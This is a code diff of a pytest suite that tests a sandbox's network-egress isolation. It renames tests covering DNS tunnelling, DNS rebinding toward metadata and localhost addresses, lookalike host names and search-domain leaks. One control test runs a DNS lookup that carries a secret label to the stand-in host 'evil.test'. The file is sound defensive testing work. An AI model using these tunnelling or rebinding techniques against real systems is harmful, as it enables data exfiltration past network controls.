@@ -8,7 +8,7 @@ import secrets
 
 import pytest
 from attacks.egress.conftest import Raid
-from attacks.egress.trying import Try, tried
+from support.egress_attack import Try, tried
 from world import places
 from world.world import World
 
@@ -86,21 +86,21 @@ QUESTIONS = {
 
 
 @pytest.mark.parametrize("name", BY_NAME)
-def test_what_looks_like_an_allowed_name_is_not_one(raid: Raid, guest: Sandbox, name: str) -> None:
+def test_lookalikes_of_an_allowed_name_are_denied(raid: Raid, guest: Sandbox, name: str) -> None:
     raid(BY_NAME, guest).failed(name, BY_NAME[name])
 
 
 @pytest.mark.parametrize("name", QUESTIONS)
-def test_a_hostile_question_gets_no_answer(raid: Raid, guest: Sandbox, name: str) -> None:
+def test_hostile_dns_query_gets_no_answer(raid: Raid, guest: Sandbox, name: str) -> None:
     raid(QUESTIONS, guest).failed(name, QUESTIONS[name])
 
 
-def test_refused_names_were_never_asked_outside(raid: Raid, guest: Sandbox) -> None:
+def test_denied_names_are_never_resolved_outside(raid: Raid, guest: Sandbox) -> None:
     for batch in (BY_NAME, QUESTIONS):
         assert set(raid(batch, guest).asked) <= {"api.example.test"}
 
 
-def test_a_trailing_dot_and_capitals_change_nothing(world: World, guest: Sandbox) -> None:
+def test_trailing_dot_and_capitals_change_nothing(world: World, guest: Sandbox) -> None:
     batch = {
         "dot": Try("get", ["api.example.test.", 80, "/", "api.example.test"]),
         "dot in Host": Try("get", ["api.example.test", 80, "/", "api.example.test."]),
@@ -114,8 +114,8 @@ def test_a_trailing_dot_and_capitals_change_nothing(world: World, guest: Sandbox
     assert seen.strays == []
 
 
-def test_nothing_can_be_tunnelled_through_questions(world: World, guest: Sandbox) -> None:
-    """Not even below an allowed wildcard: an answer is made up, and nothing is asked until somebody connects."""
+def test_dns_tunnel_is_blocked(world: World, guest: Sandbox) -> None:
+    """Not even below an allowed wildcard: the answer is a fake IP, and nothing is resolved before a connection."""
     secret = secrets.token_hex(20)
     batch = {
         f"{zone} {kind}": Try("dns", {"labels": [secret, *zone.split(".")], "kind": kind})
@@ -132,14 +132,14 @@ def test_nothing_can_be_tunnelled_through_questions(world: World, guest: Sandbox
         )
 
 
-def test_the_control_a_tunnel_through_questions_works_where_no_wall_is(world: World) -> None:
+def test_control_dns_tunnel_works_without_isolation(world: World) -> None:
     world.reset()
     world.run("getent", "ahostsv4", "a-secret.evil.test", check=True)
     assert "a-secret.evil.test" in world.asked()
 
 
-def test_a_name_that_changes_its_address_leads_nowhere_else(world: World, guest: Sandbox) -> None:
-    """Rebinding: the address that was checked is the one that is dialled, whatever the name says a moment later."""
+def test_dns_rebinding_reaches_no_other_address(world: World, guest: Sandbox) -> None:
+    """Rebinding: the checked address is the dialled one, even if the name changes a moment later."""
     turns = [[places.API], [places.METADATA], [places.API], ["127.0.0.1"], [places.API, places.PRIVATE]] * 4
     world.teach("turncoat.example.test", *turns)
     batch = {f"turn {n}": Try("get", ["turncoat.example.test"]) for n in range(40)}
@@ -149,7 +149,7 @@ def test_a_name_that_changes_its_address_leads_nowhere_else(world: World, guest:
     assert all(outcome.gained is None or places.API in outcome.gained for outcome in seen.outcomes.values())
 
 
-def test_a_name_is_not_looked_for_in_the_hosts_search_domains(world: World, guest: Sandbox) -> None:
+def test_names_are_not_resolved_in_search_domains_of_the_host(world: World, guest: Sandbox) -> None:
     """`corp.test` is searched on the host: a missing name that a rule allows must not become another one below it."""
     name = "turncoat.example.test"
     world.teach(name, [])
@@ -163,7 +163,7 @@ def test_a_name_is_not_looked_for_in_the_hosts_search_domains(world: World, gues
 
 
 @pytest.mark.soak
-def test_ten_thousand_rebinding_tries(world: World, guest: Sandbox) -> None:
+def test_ten_thousand_rebinding_attempts_fail(world: World, guest: Sandbox) -> None:
     closed = [[places.METADATA], ["127.0.0.1"], [places.PRIVATE], [places.HOST_SIDE], ["0.0.0.0"]]
     world.teach("turncoat.example.test", *(turn for other in closed * 2000 for turn in ([places.API], other)))
     for _ in range(10):
